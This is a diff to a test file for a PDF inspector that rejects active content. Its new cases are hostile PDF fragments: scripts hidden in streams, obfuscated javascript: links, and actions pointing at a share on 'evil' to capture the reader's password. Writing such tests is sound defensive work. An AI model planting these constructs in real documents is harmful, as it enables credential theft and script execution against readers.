@@ -8,6 +8,10 @@ const page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>";
 const jsAction = "<< /S /JavaScript /JS (app.alert(1)) >>";
 
 describe("T22: plain documents pass", () => {
+  it("X16: with a link of the web in them", () => {
+    expect(inspectPdf(makePdf([page, "<< /S /URI /URI (https://example.org/a) >>"]))).toBeNull();
+  });
+
   it("as a PDF library writes them, with compressed text and an embedded font", async () => {
     expect(inspectPdf(await realPdf("A CV: HTML/JavaScript, object-oriented 5 0 obj"))).toBeNull();
   });
@@ -35,6 +39,43 @@ describe("T22: active, packed and locked documents are refused", () => {
     ["a named script", makePdf([page, jsAction], "/Names << /JavaScript 4 0 R >>"), "pdf_active"],
     ["a name in hex", makePdf([page, "<< /S /J#61v#61Script /J#53 (x) >>"]), "pdf_active"],
     ["a name wholly in hex", makePdf([page, "<< /S /#4a#61#76#61#53#63#72#69#70#74 >>"]), "pdf_active"],
+    [
+      "X16: a rendition with a script, in an object hidden in a stream",
+      makePdf([
+        page,
+        "<< /Length 70 >>\nstream\n7 0 obj << /S /Rendition /OP 0 /JS (app.alert(1)) >> endobj\nendstream",
+      ]),
+      "pdf_active",
+    ],
+    ["X16: a rendition", makePdf([page, "<< /S /Rendition /OP 0 >>"]), "pdf_active"],
+    ["X16: a movie", makePdf([page, "<< /Subtype /Movie >>"]), "pdf_active"],
+    [
+      "X16: a file on a share, which asks for the reader's password",
+      makePdf([page], "/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) >>"),
+      "pdf_active",
+    ],
+    [
+      "X16: a script as an address",
+      makePdf([page, "<< /S /URI /URI (javascript:app.alert) >>"]),
+      "pdf_active",
+    ],
+    [
+      "X16: a script as an address, in hex",
+      makePdf([page, `<< /S /URI /URI <${Buffer.from("javascript:x").toString("hex")}> >>`]),
+      "pdf_active",
+    ],
+    [
+      "X16: a script as an address, in octal",
+      makePdf([page, "<< /S /URI /URI (\\152avascript:x) >>"]),
+      "pdf_active",
+    ],
+    [
+      "X16: a script as an address, with needless marks",
+      makePdf([page, "<< /S /URI /URI (java\\n\\script:x) >>"]),
+      "pdf_active",
+    ],
+    ["X16: a share as a file, in hex", makePdf([page, "<< /S /URI /F <5c5c6576696c5c78> >>"]), "pdf_active"],
+    ["X16: a share as an address", makePdf([page, "<< /S /URI /URI (file://evil/share) >>"]), "pdf_active"],
     ["a program to launch", makePdf([page, "<< /S /Launch /F (calc.exe) >>"]), "pdf_active"],
     ["a name glued to its neighbours", makePdf([page, "<</S/Launch/F(calc.exe)>>"]), "pdf_active"],
     ["a form that sends itself off", makePdf([page, "<< /S /SubmitForm >>"]), "pdf_active"],
